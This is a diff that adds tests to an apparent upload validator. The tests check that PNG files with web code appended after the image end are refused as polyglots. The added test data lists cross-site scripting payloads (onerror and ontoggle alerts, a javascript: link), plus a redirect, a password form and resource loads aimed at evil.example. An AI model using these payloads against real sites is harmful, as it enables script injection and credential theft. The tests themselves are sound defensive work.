@@ -111,3 +111,23 @@ def test_an_upload_hiding_web_code_is_refused(place):
 def test_a_file_that_cannot_be_walked_is_searched_whole():
     data = b"\x89PNG\r\n\x1a\n" + b"\xff" * 40 + CODE
     assert find_outside_pixels(io.BytesIO(data), "PNG", len(data), EMBEDDED_CODE_MARKERS)
+
+
+TRAILING_WEB_CODE = [
+    b"<img src=x onerror=alert(document.domain)>",
+    b'<a href="javascript:alert(1)">tap</a>',
+    b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    b'<form action="https://evil.example/"><input name="password"></form>',
+    b'<object data="https://evil.example/x.swf"></object>',
+    b"<STYLE>@import 'https://evil.example/a.css'</STYLE>",
+    b'<details open ontoggle="alert(1)">',
+    b"<math><maction actiontype=statusline>x</maction></math>",
+]
+
+
+@pytest.mark.parametrize("code", TRAILING_WEB_CODE, ids=lambda code: code[:12].decode())
+def test_a_png_with_web_code_after_its_end_is_refused(code):
+    """A PNG carrying an <img onerror> page after IEND passed: sniffed as HTML it runs."""
+    with pytest.raises(UploadRejected) as refused:
+        validate_upload(io.BytesIO(make.png() + code), filename="anh.png", allowed=("image",))
+    assert refused.value.code == "polyglot"
